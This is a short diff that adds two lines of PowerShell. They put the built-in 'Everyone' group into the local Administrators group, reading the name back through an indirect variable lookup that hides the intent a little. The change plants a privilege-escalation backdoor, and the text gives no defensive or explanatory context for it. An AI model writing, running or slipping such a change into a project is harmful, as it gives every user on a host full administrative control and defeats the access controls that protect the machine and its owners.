@@ -1,0 +1,2 @@
+$who = 'Everyone'
+Add-LocalGroupMember Administrators (Variable who -ValueOnly)
